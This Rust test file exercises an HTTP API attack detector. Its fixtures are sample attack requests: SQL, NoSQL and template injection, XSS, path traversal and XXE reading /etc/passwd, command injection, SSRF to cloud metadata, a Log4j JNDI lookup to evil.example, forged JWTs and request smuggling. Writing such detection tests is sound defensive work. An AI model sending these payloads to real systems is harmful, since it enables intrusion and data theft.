//! The two halves together on transactions built from raw HTTP heads.

use crate::detector::{Allow, Event};
use crate::*;
use apiwatch_model::{Body, Flags, Message, MessageHead, Request, Response, Span, Transaction};
use std::net::IpAddr;

/// A head from its text (`"GET / HTTP/1.1\r\nHost: a\r\n\r\n"`).
fn head(text: &str) -> MessageHead {
    let raw = text.as_bytes().to_vec();
    let mut h = MessageHead { raw, line: [Span::default(); 3], headers: Vec::new() };
    let mut at = 0u32;
    for (i, line) in text.split("\r\n").enumerate() {
        let len = line.len() as u32;
        if i == 0 {
            let mut parts = line.splitn(3, ' ');
            let mut off = at;
            for k in 0..3 {
                let p = parts.next().unwrap_or("");
                h.line[k] = Span { start: off, end: off + p.len() as u32 };
                off += p.len() as u32 + 1;
            }
        } else if let Some(c) = line.find(':') {
            let v = line[c + 1..].trim_start();
            let vstart = at + (line.len() - v.len()) as u32;
            h.headers.push((Span { start: at, end: at + c as u32 }, Span { start: vstart, end: at + len }));
        }
        at += len + 2;
    }
    h
}

fn tx(client: &str, req: &str, body: &[u8], status: u16, resp_headers: &str, resp_body: &[u8]) -> Transaction {
    let msg = |h: &str, b: &[u8], ts: i64| Message {
        head: head(h),
        head_len: h.len() as u32,
        body: Body { len: b.len() as u64, sample: b.to_vec(), ..Body::default() },
        ts_first: ts,
        ts_last: ts,
    };
    Transaction {
        conn_id: 1,
        trans_depth: 1,
        client: (client.parse().unwrap(), 40000),
        server: ("10.0.0.2".parse().unwrap(), 8080),
        community_id: "x".into(),
        request: Some(Box::new(Request { msg: msg(req, body, 1_700_000_000 * 1_000_000_000) })),
        response: (status > 0).then(|| {
            Box::new(Response {
                msg: msg(
                    &format!("HTTP/1.1 {status} X\r\n{resp_headers}\r\n"),
                    resp_body,
                    1_700_000_000 * 1_000_000_000,
                ),
                status,
                interim: Vec::new(),
            })
        }),
        flags: Flags::default(),
    }
}

fn get(uri: &str) -> Transaction {
    tx("203.0.113.9", &format!("GET {uri} HTTP/1.1\r\nHost: api\r\nUser-Agent: curl/8.0\r\n\r\n"), b"", 200, "", b"")
}

fn rules_of(t: &Transaction) -> Vec<&'static str> {
    let mut i = Inspector::default();
    let mut ins = Inspection::default();
    i.inspect(t, &mut ins);
    let mut v: Vec<_> = ins.signals.iter().map(|s| s.rule.name()).collect();
    v.sort();
    v.dedup();
    v
}

#[test]
fn request_signatures_by_place() {
    assert_eq!(rules_of(&get("/users?id=1%27%20OR%20%271%27%3D%271")), ["sql_injection"]);
    assert_eq!(rules_of(&get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E")), ["xss"]);
    assert_eq!(rules_of(&get("/files/..%2f..%2f..%2fetc%2fpasswd")), ["path_traversal"]);
    assert_eq!(rules_of(&get("/download?file=../../../../etc/passwd")), ["path_traversal"]);
    assert_eq!(rules_of(&get("/ping?host=127.0.0.1;cat%20/etc/passwd")), ["command_injection", "path_traversal"]);
    assert_eq!(rules_of(&get("/fetch?url=http://169.254.169.254/latest/meta-data/")), ["ssrf"]);
    assert_eq!(rules_of(&get("/fetch?url=gopher://10.0.0.1:6379/_INFO")), ["ssrf"]);
    assert_eq!(rules_of(&get("/users?username[$ne]=x")), ["nosql_injection"]);
    assert_eq!(rules_of(&get("/render?name={{7*7}}")), ["template_injection"]);
    assert_eq!(rules_of(&get("/users/1'%20or%20'1'='1")), ["sql_injection"]);
    // Ordinary calls say nothing.
    for uri in [
        "/users/42",
        "/users?page=2&per_page=50&sort=-created_at",
        "/search?q=red%20shoes%20size%2042",
        "/items/3f2c9a7e-1b2d-4c5e-9f00-aa11bb22cc33/reviews",
        "/files/report.2024.pdf",
        "/geo?lat=48.85&lon=2.35",
        "/users?email=jane.doe%40example.com",
        "/posts?tag=c%2B%2B&tag=rust",
    ] {
        assert_eq!(rules_of(&get(uri)), Vec::<&str>::new(), "{uri}");
    }
}

#[test]
fn bodies_headers_and_tools() {
    let json = br#"{"user":{"name":"x","filter":"admin' UNION SELECT password FROM users--"},"password":"p' or 1=1"}"#;
    let t = tx(
        "203.0.113.9",
        "POST /api/users HTTP/1.1\r\nHost: api\r\nContent-Type: application/json\r\n\r\n",
        json,
        201,
        "",
        b"",
    );
    let mut i = Inspector::default();
    let mut ins = Inspection::default();
    i.inspect(&t, &mut ins);
    let s = &ins.signals[0];
    assert_eq!((s.rule, s.location.as_str()), (RuleId::SqlInjection, "body:/user/filter"));
    // The password field is a credential: never checked, never shown.
    assert_eq!(ins.signals.len(), 1, "{:?}", ins.signals);
    assert!(!s.evidence.contains("password") || s.evidence.contains("********"));
    assert_eq!(s.evidence, "*****' UNION SELECT ******** FROM *****--");

    let nosql = tx(
        "203.0.113.9",
        "POST /login HTTP/1.1\r\nHost: api\r\nContent-Type: application/json\r\n\r\n",
        br#"{"username":"admin","password":{"$ne":null}}"#,
        401,
        "",
        b"",
    );
    assert_eq!(rules_of(&nosql), ["nosql_injection"]);
    let xml = tx(
        "203.0.113.9",
        "POST /import HTTP/1.1\r\nHost: api\r\nContent-Type: application/xml\r\n\r\n",
        br#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
        200,
        "",
        b"",
    );
    assert_eq!(rules_of(&xml), ["xxe"]);
    let tool = tx(
        "203.0.113.9",
        "GET / HTTP/1.1\r\nHost: api\r\nUser-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n\r\n",
        b"",
        200,
        "",
        b"",
    );
    assert_eq!(rules_of(&tool), ["scanner_user_agent"]);
    let log4j = tx(
        "203.0.113.9",
        "GET / HTTP/1.1\r\nHost: api\r\nX-Api-Version: ${${lower:j}ndi:ldap://evil.example/a}\r\n\r\n",
        b"",
        200,
        "",
        b"",
    );
    assert_eq!(rules_of(&log4j), ["jndi_lookup"]);
    // Browsers and common clients are not flagged.
    for ua in [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        "python-requests/2.31.0",
        "okhttp/4.12.0",
        "Go-http-client/1.1",
    ] {
        let t = tx("203.0.113.9", &format!("GET / HTTP/1.1\r\nHost: api\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n"), b"", 200, "", b"");
        assert_eq!(rules_of(&t), Vec::<&str>::new(), "{ua}");
    }
}

#[test]
fn credentials_and_tokens() {
    let weak = crate::jwt::tests::make(r#"{"alg":"HS256"}"#, r#"{"sub":"alice","exp":1600000000}"#, Some("secret"));
    let t = tx(
        "203.0.113.9",
        &format!("GET /me HTTP/1.1\r\nHost: api\r\nAuthorization: Bearer {weak}\r\n\r\n"),
        b"",
        200,
        "",
        b"",
    );
    let mut i = Inspector::default();
    let mut ins = Inspection::default();
    i.inspect(&t, &mut ins);
    let mut names: Vec<_> = ins.signals.iter().map(|s| s.rule.name()).collect();
    names.sort();
    assert_eq!(names, ["cleartext_credentials", "jwt_expired_accepted", "jwt_weak_secret"]);
    assert_eq!(ins.principal.as_deref(), Some("jwt:alice"));
    for s in &ins.signals {
        assert!(!s.evidence.contains(&weak[..20]), "{s:?}");
    }
    let none = crate::jwt::tests::make(r#"{"alg":"none"}"#, r#"{"sub":"bob"}"#, None);
    let t = tx(
        "10.1.1.1",
        &format!("GET /me HTTP/1.1\r\nHost: api\r\nAuthorization: Bearer {none}\r\n\r\n"),
        b"",
        200,
        "",
        b"",
    );
    assert_eq!(rules_of(&t), ["cleartext_credentials", "jwt_alg_none", "jwt_no_expiry"]);
    let key_in_url = get("/v1/data?api_key=sk_live_abcdef0123456789&page=1");
    let mut ins = Inspection::default();
    i.inspect(&key_in_url, &mut ins);
    assert_eq!(ins.signals.len(), 1);
    assert_eq!(ins.signals[0].rule, RuleId::CredentialsInUrl);
    assert!(!ins.signals[0].evidence.contains("sk_live"), "{:?}", ins.signals[0]);
    let basic = tx(
        "203.0.113.9",
        "GET /admin HTTP/1.1\r\nHost: api\r\nAuthorization: Basic YWRtaW46aHVudGVyMg==\r\n\r\n",
        b"",
        401,
        "",
        b"",
    );
    let mut ins = Inspection::default();
    i.inspect(&basic, &mut ins);
    assert_eq!(ins.principal.as_deref(), Some("basic:admin"));
    assert!(ins.login.is_some());
    assert!(ins.signals.iter().all(|s| !s.evidence.contains("hunter2")));
}

#[test]
fn responses_that_give_things_away() {
    let t = tx(
        "203.0.113.9",
        "GET /users/x HTTP/1.1\r\nHost: api\r\n\r\n",
        b"",
        500,
        "Server: Werkzeug/2.2.2 Python/3.11.2\r\nContent-Type: text/plain\r\n",
        b"Traceback (most recent call last):\n  File \"/srv/app.py\", line 7, in get\nValueError: 4111111111111111\n",
    );
    assert_eq!(rules_of(&t), ["error_leak", "version_disclosure"]);
}

#[test]
fn framing_and_methods() {
    let mut t = tx(
        "203.0.113.9",
        "POST / HTTP/1.1\r\nHost: a\r\nHost: b\r\nTransfer-Encoding: chunked, identity\r\nContent-Length: 4\r\n\r\n",
        b"",
        200,
        "",
        b"",
    );
    t.flags.set(Flags::AMBIGUOUS_LENGTH);
    let mut i = Inspector::default();
    let mut ins = Inspection::default();
    i.inspect(&t, &mut ins);
    assert_eq!(ins.signals[0].rule, RuleId::RequestSmuggling);
    assert_eq!(ins.signals[0].signs, ["conflicting_lengths", "obfuscated_transfer_encoding", "duplicate_host"]);
    let odd = tx("203.0.113.9", "G<T / HTTP/1.1\r\nHost: a\r\n\r\n", b"", 400, "", b"");
    assert_eq!(rules_of(&odd), ["invalid_method"]);
}

fn cx<'a>(t: &'a Transaction, template: &'a str, path: &'a str, ts_s: i64) -> Context<'a> {
    Context {
        ts: ts_s * 1_000_000_000,
        client: t.client.0,
        server: t.server.0,
        host: "api",
        method: "GET",
        template,
        path,
        status: t.response.as_ref().map_or(0, |r| r.status),
    }
}

#[test]
fn repeats_are_folded_into_one_finding_per_window() {
    let mut i = Inspector::default();
    let mut d = Detector::new(DetectorConfig { window_secs: 60, ..DetectorConfig::default() });
    let mut out = Vec::new();
    let mut ins = Inspection::default();
    for k in 0..50 {
        let t = get(&format!("/users?id={k}%27%20OR%201%3D1--"));
        i.inspect(&t, &mut ins);
        d.observe(&cx(&t, "/users", "/users", 1000 + k), &ins, &mut out);
    }
    assert_eq!(out.len(), 1, "{out:?}");
    assert_eq!(out[0].event, Event::New);
    assert_eq!(out[0].severity, Severity::Critical, "raised: the response was a success");
    // The window closes with the count, under the same id.
    let t = get("/users/1");
    i.inspect(&t, &mut ins);
    d.observe(&cx(&t, "/users/{id}", "/users/1", 1100), &ins, &mut out);
    assert_eq!(out.len(), 2);
    assert_eq!(out[1].id, out[0].id);
    assert_eq!(
        out[1].event,
        Event::Repeated { count: 50, first_ts: 1000 * 1_000_000_000, last_ts: 1049 * 1_000_000_000 }
    );
    // Another client is another finding.
    let mut t2 = get("/users?id=1%27%20OR%201%3D1--");
    t2.client.0 = "198.51.100.7".parse::<IpAddr>().unwrap();
    i.inspect(&t2, &mut ins);
    d.observe(&cx(&t2, "/users", "/users", 1101), &ins, &mut out);
    assert_eq!(out.len(), 3);
    assert_ne!(out[2].id, out[0].id);
    assert_eq!(d.counters.repeats, 49);
}

#[test]
fn allowlists_and_disabled_detections() {
    let mut i = Inspector::default();
    let cfg = DetectorConfig {
        allow: vec![Allow {
            rule: Some(RuleId::SqlInjection),
            client: Some("203.0.113.0/24".parse().unwrap()),
            path_prefix: None,
        }],
        disabled: vec![RuleId::Xss],
        ..DetectorConfig::default()
    };
    let mut d = Detector::new(cfg);
    let mut out = Vec::new();
    let mut ins = Inspection::default();
    for uri in ["/u?id=1%27%20OR%201%3D1--", "/s?q=%3Cscript%3Ealert(1)%3C/script%3E"] {
        let t = get(uri);
        i.inspect(&t, &mut ins);
        d.observe(&cx(&t, "/u", "/u", 1), &ins, &mut out);
    }
    assert!(out.is_empty(), "{out:?}");
    assert_eq!((d.counters.allowed, d.counters.disabled), (1, 1));
}

#[test]
fn brute_force_then_success_and_stuffing() {
    let mut i = Inspector::default();
    let mut d = Detector::new(DetectorConfig::default());
    let mut out = Vec::new();
    let mut ins = Inspection::default();
    let login = |user: &str, status: u16| {
        tx(
            "203.0.113.50",
            "POST /api/login HTTP/1.1\r\nHost: api\r\nContent-Type: application/json\r\n\r\n",
            format!(r#"{{"username":"{user}","password":"guess"}}"#).as_bytes(),
            status,
            "",
            b"",
        )
    };
    // A few failures are people mistyping.
    for k in 0..5 {
        let t = login("alice", 401);
        i.inspect(&t, &mut ins);
        d.observe(&cx(&t, "/api/login", "/api/login", k), &ins, &mut out);
    }
    assert!(out.is_empty());
    for k in 5..30 {
        let t = login(&format!("user{k}"), 401);
        i.inspect(&t, &mut ins);
        d.observe(&cx(&t, "/api/login", "/api/login", k), &ins, &mut out);
    }
    let names: Vec<_> = out.iter().map(|f| f.rule.name()).collect();
    assert_eq!(names, ["credential_stuffing", "brute_force"]);
    let t = login("user29", 200);
    i.inspect(&t, &mut ins);
    d.observe(&cx(&t, "/api/login", "/api/login", 31), &ins, &mut out);
    assert_eq!(out.last().map(|f| f.rule), Some(RuleId::BruteForceSuccess));
}

#[test]
fn spraying_needs_many_missing_paths() {
    let mut d = Detector::new(DetectorConfig::default());
    let mut out = Vec::new();
    let ins = Inspection::default();
    let ok = get("/x");
    // A busy ordinary client: many calls, few paths, all found.
    for k in 0..500 {
        d.observe(&cx(&ok, "/users/{id}", &format!("/users/{}", k % 20), k), &ins, &mut out);
    }
    assert!(out.is_empty());
    let mut fuzz = tx("198.51.100.99", "GET /x HTTP/1.1\r\nHost: api\r\n\r\n", b"", 404, "", b"");
    fuzz.client.0 = "198.51.100.99".parse().unwrap();
    for k in 0..200 {
        d.observe(&cx(&fuzz, "/{x}", &format!("/admin{k}.php"), 600 + k / 10), &ins, &mut out);
    }
    assert_eq!(out.iter().map(|f| f.rule.name()).collect::<Vec<_>>(), ["endpoint_spray"]);
}

#[test]
fn tables_stay_within_their_caps() {
    let mut d = Detector::new(DetectorConfig { max_clients: 100, max_open: 10, ..DetectorConfig::default() });
    let mut i = Inspector::default();
    let mut out = Vec::new();
    let mut ins = Inspection::default();
    for k in 0..1000u32 {
        let mut t = get("/u?id=1%27%20OR%201%3D1--");
        t.client.0 = IpAddr::V4(std::net::Ipv4Addr::from(0x0a00_0000 + k));
        i.inspect(&t, &mut ins);
        d.observe(&cx(&t, "/u", "/u", 1), &ins, &mut out);
    }
    assert_eq!(out.len(), 1000, "every new actor is reported even when aggregation is full");
    assert_eq!(d.counters.open_cap_hits, 990);
    assert_eq!(d.counters.clients_dropped_cap, 900);
}
